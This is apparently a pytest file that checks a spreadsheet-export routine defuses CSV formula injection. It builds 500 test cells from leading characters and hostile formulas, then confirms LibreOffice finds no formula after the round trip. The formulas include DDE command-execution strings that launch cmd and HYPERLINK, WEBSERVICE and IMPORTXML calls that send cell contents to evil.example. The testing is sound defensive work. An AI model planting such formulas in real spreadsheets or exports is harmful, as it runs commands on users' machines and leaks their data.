"""Five hundred cells that spreadsheets would run, written as our tables are and read again."""

from __future__ import annotations

import csv
import io
import random
import shutil
import subprocess
import unicodedata
from pathlib import Path
from xml.etree import ElementTree

import pytest

from corpus.spreadsheets import neutral

CELLS = 500
STARTS = "=+-@＝＋－＠﹦﹢﹣﹫"
BEFORE = (
    "", " ", "  ", "\u00a0", "\u3000", "\u2003", "\t", "\r", "\n", "\r\n", "\0", "\x0b", "\x1f", "\x85",
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u202e", "\u2066", "\u180e", "\u061c",
    "\ufe0f", "\u034f", "\u115f", "\u3164", "\uffa0", "\u2800", "\U000e0041", "\ue000", "\u2028", " \u200b ",
    "\0 \ufeff", "\u200b\t",
)  # fmt: skip
FORMULAS = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?q="&A1,"x")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example","//a")',
    "SUM(A1:A9)*cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "2+5+cmd|' /C calc'!A0",
    "A1",
    "'x'",
    '"x",=1',
    "1;=2",
    "RAND()\n=1",
)
# What a laboratory's tables hold: it stays as it is.
HONEST = ("210 L/kg", "a = b", "5-10 %", "x@y.example", "(−5 °C)", "'quoted'", "", "é", "中文", "3+4")


def payloads() -> list[str]:
    """Return the cells, the same ones every time, each another."""
    choose = random.Random(25)  # noqa: S311 - the same every time
    found: dict[str, None] = {}
    for before in BEFORE:
        for start in STARTS:
            found[f"{before}{start}{choose.choice(FORMULAS)}"] = None
    while len(found) < CELLS:
        before = "".join(choose.choices(BEFORE, k=choose.randint(1, 4)))
        found[f"{before}{choose.choice(STARTS)}{choose.choice(FORMULAS)}"] = None
    return list(found)[:CELLS]


PAYLOADS = payloads()


def table(cells: list[str]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerows([[neutral(cell)] for cell in cells])
    return out.getvalue()


def would_run(cell: str) -> bool:
    """Say by the stated rule whether a spreadsheet runs a cell, found another way than by the product."""
    if cell[:1] in ("\t", "\r", "\n", "\0"):
        return True
    kept = "".join(
        char
        for char in unicodedata.normalize("NFKC", cell)
        if not char.isspace() and char.isprintable() and char not in "\u115f\u1160\u2800\u034f\ufe0f"
    )
    return kept[:1] in ("=", "+", "-", "@")


def test_there_are_five_hundred_cells_and_each_would_be_run() -> None:
    assert len(set(PAYLOADS)) == CELLS
    assert [cell for cell in PAYLOADS if not would_run(cell)] == []


def test_none_of_them_is_run_when_the_table_is_read_again() -> None:
    read = [row[0] for row in csv.reader(io.StringIO(table(PAYLOADS), newline=""))]

    assert len(read) == CELLS
    assert [cell for cell in read if would_run(cell)] == []
    assert read == ["'" + cell.replace("\0", "") for cell in PAYLOADS]


@pytest.mark.parametrize("cell", HONEST)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert neutral(cell) == cell


@pytest.mark.long
def test_a_spreadsheet_program_finds_no_formula_in_the_table(tmp_path: Path) -> None:
    program = shutil.which("soffice") or shutil.which("libreoffice")
    if program is None:
        pytest.skip("needs LibreOffice")
    (tmp_path / "cells.csv").write_text(table(PAYLOADS), encoding="utf-8", newline="")
    told = ["--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / "cells.csv")]
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    subprocess.run([program, profile, *told], check=True, capture_output=True, timeout=240)

    tree = ElementTree.parse(tmp_path / "cells.fods")  # noqa: S314 - our own
    formulas = [name for cell in tree.iter() for name in cell.attrib if name.endswith("}formula")]
    assert formulas == []
